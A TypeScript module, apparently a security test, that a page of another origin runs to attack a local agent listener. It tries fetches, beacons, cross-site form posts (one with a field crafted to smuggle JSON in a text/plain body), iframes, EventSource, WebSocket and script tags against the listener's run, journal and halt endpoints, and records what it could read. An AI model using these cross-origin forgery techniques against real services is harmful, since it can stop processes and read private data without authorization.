/** Attacks by a page of another origin on a listener. The code runs inside the page, and so imports no module. */

export interface Target {
  /** Listener under attack, as `http://host:port`. */
  readonly base: string;
  readonly token: string;
  readonly run: string;
}
/** Text that each attack could read; null: the attack read no text. */
export type Loot = Readonly<Record<string, string | null>>;

export const attack = async ({ base, token, run }: Target): Promise<Loot> => {
  const halts = ["/api/v1/halt", `/api/v1/runs/${run}/halt`];
  const body = JSON.stringify({ reason: "from another page", because: "operator" });
  const authorization = `Bearer ${token}`;
  const loot: Record<string, string | null> = {};
  const none = () => null;
  const within = (work: Promise<string | null>) =>
    Promise.race([work.catch(none), new Promise<null>((done) => setTimeout(() => done(null), 1_500))]);
  const read = async (path: string, init: RequestInit) => {
    const response = await fetch(base + path, init);
    const text = await response.text();
    return response.type === "opaque" || text === "" ? null : `${response.status} ${text}`;
  };

  for (const path of ["/api/v1/runs", `/api/v1/runs/${run}`, `/api/v1/runs/${run}/journal`, "/api/v1/mesh", "/"]) {
    loot[`GET ${path}`] = await within(read(path, {}));
    loot[`GET ${path} with the token`] = await within(read(path, { headers: { authorization } }));
    loot[`GET ${path} no-cors`] = await within(read(path, { mode: "no-cors", credentials: "include" }));
  }
  for (const path of halts) {
    const json = { "content-type": "application/json" };
    const post = { method: "POST", body };
    loot[`POST ${path} JSON`] = await within(read(path, { ...post, headers: json }));
    loot[`POST ${path} JSON with the token`] = await within(
      read(path, { ...post, headers: { ...json, authorization } }),
    );
    for (const type of ["text/plain", "application/x-www-form-urlencoded"])
      loot[`POST ${path} ${type}`] = await within(
        read(path, { ...post, mode: "no-cors", headers: { "content-type": type } }),
      );
    loot[`POST ${path} without a type`] = await within(
      read(path, { ...post, mode: "no-cors", body: new Blob([body]) }),
    );
    loot[`beacon ${path}`] = navigator.sendBeacon(base + path, body) ? null : null;
  }

  const frameOf = (act: (frame: HTMLIFrameElement) => void) =>
    new Promise<string | null>((done) => {
      const frame = document.createElement("iframe");
      frame.name = `frame${Math.random()}`;
      document.body.append(frame);
      frame.onload = () => {
        try {
          if (frame.contentWindow!.location.href !== "about:blank")
            done(frame.contentDocument!.documentElement.textContent || null);
        } catch {
          done(null);
        }
      };
      act(frame);
    });
  const submit = (path: string, enctype: string) => (frame: HTMLIFrameElement) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: base + path, enctype, target: frame.name });
    const field = document.createElement("input");
    // Name and value together make up JSON when the form is sent as text/plain.
    Object.assign(field, { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
    form.append(field);
    document.body.append(form);
    form.submit();
  };
  for (const path of halts)
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
      loot[`form ${path} ${enctype}`] = await within(frameOf(submit(path, enctype)));
  loot["frame /"] = await within(
    frameOf((frame) => {
      frame.src = `${base}/`;
    }),
  );

  loot.EventSource = await within(
    new Promise((done) => {
      const source = new EventSource(`${base}/api/v1/runs/${run}/events`);
      for (const type of ["open", "record", "message"])
        source.addEventListener(type, (event) => {
          source.close();
          done(`${type} ${(event as MessageEvent).data ?? ""}`);
        });
      source.onerror = () => source.readyState === EventSource.CLOSED && done(null);
    }),
  );
  for (const path of ["/api/v1/agent", `/api/v1/agent?token=${token}`])
    loot[`WebSocket ${path.split("?")[0]}${path.includes("?") ? " with the token" : ""}`] = await within(
      new Promise((done) => {
        const socket = new WebSocket(`${base.replace("http", "ws")}${path}`);
        socket.onopen = () => {
          socket.close();
          done("open");
        };
        socket.onerror = () => done(null);
      }),
    );
  loot["script of the API"] = await within(
    new Promise((done) => {
      const script = document.createElement("script");
      script.src = `${base}/api/v1/runs`;
      script.onload = () => done("loaded");
      script.onerror = () => done(null);
      document.body.append(script);
    }),
  );
  return loot;
};
